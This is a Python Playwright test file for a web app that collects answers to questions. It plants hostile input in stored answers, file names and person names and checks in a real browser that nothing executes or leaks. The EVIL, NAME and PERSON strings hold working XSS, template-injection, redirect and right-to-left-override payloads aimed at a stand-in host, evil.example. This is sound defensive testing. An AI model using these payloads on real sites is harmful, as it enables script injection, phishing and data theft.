"""A hostile answer on every page that shows it, in a real browser: nothing runs, nothing is fetched, nobody is misled;
and a browser that presses everything decides nothing."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from tests.campaign import AICHA, MAITE, MIREILLE, REF, Campaign
from tests.gateways.screens import ARGUMENTS, Cookies, known, look, opened
from tests.gateways.test_web import page_of
from tests.gateways.visiting import codes

pytestmark = [pytest.mark.browser, pytest.mark.slow]
RAN = "window.ran = 1"
#: what runs, fetches, frames, hides or misleads where it is not shown as the characters that it is
EVIL = f"""</textarea></pre></style></title></template></noscript>--></details>
<script>{RAN}</script><script src=//evil.example/a.js></script>
<img src=https://evil.example/a.png onerror="{RAN}"><img src=x onerror={RAN}>
<svg onload="{RAN}"><animate onbegin="{RAN}" attributeName=x dur=1s></svg><math><mtext><style><img src onerror={RAN}>
<iframe src=https://evil.example/></iframe><object data=//evil.example/></object><embed src=//evil.example/>
<form action=https://evil.example/><button>Valider et transmettre</button></form><base href=//evil.example/>
<meta http-equiv=refresh content="0;url=https://evil.example/"><link rel=stylesheet href=//evil.example/a.css>
<style>body{{background:url(https://evil.example/b.png)}} .card{{visibility:hidden}}</style>
<input autofocus onfocus="{RAN}" name=decision value=approve><details open ontoggle="{RAN}">
<a href="javascript:{RAN}">javascript:{RAN}</a> <a href=data:text/html,x>data</a>
"><script>{RAN}</script> ' onmouseover='{RAN}' {{{{711*7}}}} {{% include "web/base.html" %}} ${{711*7}} &lt;script&gt;
\u202emoc.elpmaxe.live//:sptth\u202c \u2066\u2069 \u200b\u2028{RAN}\u0000\x1b[31m
{"x" * 3000} https://evil.example/{"y" * 500}"""
ASKED = EVIL.rpartition("\n")[0]  #: a question comes from the association: its words are short
NAME = '\u202efdp."><img src=https://evil.example/n.png onerror=window.ran=1><script>window.ran=1</script>.pdf'
PERSON = "<img src=https://evil.example/p.png onerror=window.ran=1> \u202emialc"


@pytest.fixture
def browser(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS.split())
        yield started
        started.close()


def poisoned(campaign: Campaign) -> str:
    """The address path of the page of an answer in which everything that is not ours is hostile."""
    campaign.reply(campaign.letter(AICHA, "question"), AICHA, "Voici.", files={"a.pdf": b"%PDF-1.4\n%%EOF\n"})
    with campaign.system.store.tx() as conn:
        conn.execute("update answer set text = ?, added = ?, set_aside = ?", (EVIL, EVIL, EVIL))
        conn.execute("update answer_file set name = ?", (NAME,))
        conn.execute("update person set name = ? where email in (?, ?)", (PERSON, AICHA[1], MIREILLE[1]))
        conn.execute("update dossier set member = ?, profession = ? where ref = 'D0009'", (PERSON, PERSON))
        conn.execute("update firm set name = ?", (PERSON,))
        conn.execute("update question set text = ?, document = ?, line = ? where ref = ?", (ASKED, PERSON, PERSON, REF))
    return page_of(campaign.letter(MAITE, "approval"), "")


def inert(page: Page) -> None:
    """Everything is opened, pointed at and focused; still nothing has run, and nothing hides."""
    page.evaluate("document.querySelectorAll('details').forEach(folded => folded.open = true)")
    page.evaluate(
        "document.querySelectorAll('*').forEach(e => ['mouseover', 'focus', 'toggle', 'load', 'error']"
        ".forEach(what => e.dispatchEvent(new Event(what))))"
    )
    assert page.evaluate("window.ran") is None
    assert len(page.frames) == 1
    strange = "script, iframe, object, embed, svg, math, img, base, link, [onerror], [onload], [http-equiv], body style"
    assert page.locator(strange).count() == 0
    links = page.eval_on_selector_all("a, form", "all => all.map(e => e.href || e.action)")
    assert all(link.startswith((page.url.partition("/v/")[0], "https://www.assaprol.example")) for link in links), links
    assert not set("\u202e\u202c\u2066\u2069\u200b\u2028\x1b") & set(page.content())
    assert "4977" not in page.content(), "no template ran"


def test_nothing_of_a_hostile_answer_runs(campaign: Campaign, site: str, browser: Browser, tmp_path: Path) -> None:
    address = site + poisoned(campaign)
    look(browser, address, "hostile-new", tmp_path, inert)
    cookies = known(campaign, address)
    look(browser, address, "hostile-approve", tmp_path, inert, cookies)
    for bypass in (False, True):
        with opened(browser, cookies, bypass) as (page, watched):
            page.goto(address)
            assert "<script>window.ran = 1</script>" in page.locator("section.an").first.inner_text()
            expire(page)
            inert(page)
            assert watched.beside(site) == [], "asked for nothing else"
            with page.expect_download() as download:
                page.locator("a[href^='/f/']").first.click()
            assert not set("\u202e/<>") & set(download.value.suggested_filename)
            assert page.url == address
    decided(campaign, site, browser, tmp_path, address, cookies)


def expire(page: Page) -> None:
    """A form that comes back with what was typed, which is hostile too."""
    page.get_by_text("Renvoyer à").first.click()
    page.evaluate("document.querySelectorAll('[name=n]').forEach(field => field.value = 'expired')")
    page.locator("#comment").fill(EVIL)
    page.get_by_role("button", name="Renvoyer", exact=True).click()
    page.get_by_role("status").wait_for()
    assert page.locator("#comment").input_value().startswith("</textarea></pre>")


def decided(campaign: Campaign, site: str, browser: Browser, folder: Path, address: str, cookies: Cookies) -> None:
    """The pages that follow: what was typed into a closed page, what changed, what was amended, what staff see."""
    with opened(browser, cookies, bypass=True) as (page, watched):
        page.goto(address)
        page.get_by_text("Remplacer ou compléter").click()
        page.locator("#text").fill(EVIL + " et plus.")
        page.context.clear_cookies()
        page.get_by_role("button", name="Transmettre ma version").click()
        page.get_by_text("Ce que vous aviez écrit").wait_for()
        inert(page)
        page.context.add_cookies(cookies)
        page.goto(address)
        page.get_by_text("Remplacer ou compléter").click()
        page.locator("#text").fill(EVIL + " et plus.")
        page.get_by_role("button", name="Transmettre ma version").click()
        page.get_by_role("heading", name="La réponse nous est transmise").wait_for()
        assert watched.beside(site) == []
    assert campaign.show()["state"] == "submitted"
    look(browser, address, "hostile-done", folder, inert, cookies)
    campaign.run()
    treat = page_of(campaign.letter(MIREILLE, "to_treat"), site)
    look(browser, treat, "hostile-treat", folder, inert, known(campaign, treat))


def test_a_browser_that_presses_everything_decides_nothing(campaign: Campaign, site: str, browser: Browser) -> None:
    """As the sandbox of a scanner does: a real browser, which follows, presses, fills in and submits all it finds."""
    page_ = page_of(campaign.proposed("Voici le détail."), site)
    before = campaign.show()
    for visit in range(3):
        with opened(browser, []) as (page, watched):
            page.goto(page_)
            pressed = 0
            for n in range(12):
                for field in page.locator("input:visible, textarea:visible").all():
                    field.fill(f"{visit}{n:05d}")
                buttons = page.locator("button, summary").all()
                assert buttons, "there is always a way on"
                buttons[n % len(buttons)].click()
                page.wait_for_load_state()
                pressed += 1
            assert pressed == 12
            assert "Voici le détail." not in page.content()
            assert watched.beside(site) == []
    assert campaign.show() == before
    assert 1 <= len(codes(campaign)) <= 4
